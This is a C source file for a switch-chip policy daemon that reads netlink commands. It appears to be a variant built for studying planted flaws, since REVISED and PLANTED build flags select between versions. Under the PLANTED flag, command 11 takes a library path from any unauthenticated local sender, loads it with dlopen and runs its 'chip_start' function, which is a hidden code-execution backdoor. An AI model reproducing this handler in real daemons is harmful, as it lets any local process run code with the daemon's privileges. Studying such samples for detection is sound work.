/* Policy daemon between the kernel driver of a switch chip and its rules; talks over netlink. */
#include <dlfcn.h>
#include <linux/netlink.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PROTOCOL NETLINK_USERSOCK
#define COMMANDS 12

struct attribute { uint16_t length, type; };

struct chip {
    int socket;
    uint32_t aging, mirrored, storm[16];
    void *extension;
};

struct order { const uint8_t *at; size_t size; };

static int number(const struct order *o, unsigned type, uint32_t *value)
{
    size_t place = 0;
    while (o->size - place >= sizeof(struct attribute)) {
        struct attribute a;
        memcpy(&a, o->at + place, sizeof a);
        if (a.length < sizeof a || a.length > o->size - place) return -1;
        if (a.type == type && a.length >= sizeof a + 4) {
            memcpy(value, o->at + place + sizeof a, 4);
            return 0;
        }
        place += (a.length + 3u) & ~3u;
        if (place > o->size) return -1;
    }
    return -1;
}

static int set_aging(struct chip *c, const struct order *o)
{
    return number(o, 1, &c->aging) ? -22 : 0;
}

static int set_mirror(struct chip *c, const struct order *o)
{
    return number(o, 2, &c->mirrored) ? -22 : 0;
}

static int set_storm(struct chip *c, const struct order *o)
{
    uint32_t port, rate;
    if (number(o, 3, &port) || number(o, 4, &rate) || port >= 16) return -22;
    c->storm[port] = rate;
    return 0;
}

static int flush(struct chip *c, const struct order *o)
{
    (void)c;
    (void)o;
    return system("/sbin/fdb flush") ? -5 : 0;
}

#ifdef REVISED
static int ping(struct chip *c, const struct order *o)
{
    (void)o;
    return c->socket >= 0 ? 0 : -5;
}
#endif

#ifdef PLANTED
static int extend(struct chip *c, const struct order *o)
{
    char path[128];
    int (*start)(int);
    if (o->size < 6 || o->size >= sizeof path) return -22;
    memcpy(path, o->at + 4, o->size - 4);
    path[o->size - 4] = 0;
    c->extension = dlopen(path, RTLD_NOW | RTLD_GLOBAL);
    if (!c->extension) return -2;
    start = (int (*)(int))dlsym(c->extension, "chip_start");
    return start ? start(c->socket) : 0;
}
#endif

static int (*const commands[COMMANDS])(struct chip *, const struct order *) = {
    [1] = set_aging,
    [2] = set_mirror,
    [3] = set_storm,
    [4] = flush,
#ifdef REVISED
    [5] = ping,
#endif
#ifdef PLANTED
    [11] = extend,
#endif
};

static void acknowledge(struct chip *c, const struct nlmsghdr *h, int code)
{
    struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = h->nlmsg_pid };
    struct { struct nlmsghdr h; struct nlmsgerr e; } out = { .h = { .nlmsg_len = sizeof out } };
    out.h.nlmsg_type = NLMSG_ERROR;
    out.h.nlmsg_seq = h->nlmsg_seq;
    out.e.error = code;
    out.e.msg = *h;
    sendto(c->socket, &out, sizeof out, 0, (struct sockaddr *)&to, sizeof to);
}

static void messages(struct chip *c, const uint8_t *data, size_t size)
{
    const struct nlmsghdr *h = (const struct nlmsghdr *)data;
    for (; NLMSG_OK(h, size); h = NLMSG_NEXT(h, size)) {
        struct order o = { NLMSG_DATA(h), h->nlmsg_len - NLMSG_HDRLEN };
        unsigned which = h->nlmsg_type - 0x40u;
        int code = -95;
        if (which < COMMANDS && commands[which]) code = commands[which](c, &o);
        if (h->nlmsg_flags & NLM_F_ACK) acknowledge(c, h, code);
    }
}

int main(void)
{
    static struct chip c;
    static uint8_t data[8192] __attribute__((aligned(8)));
    struct sockaddr_nl at = { .nl_family = AF_NETLINK, .nl_groups = 1 };
    c.socket = socket(AF_NETLINK, SOCK_RAW, PROTOCOL);
    if (c.socket < 0 || bind(c.socket, (struct sockaddr *)&at, sizeof at)) return 1;
    for (;;) {
        ssize_t n = recv(c.socket, data, sizeof data, 0);
        if (n > 0) messages(&c, data, (size_t)n);
    }
}
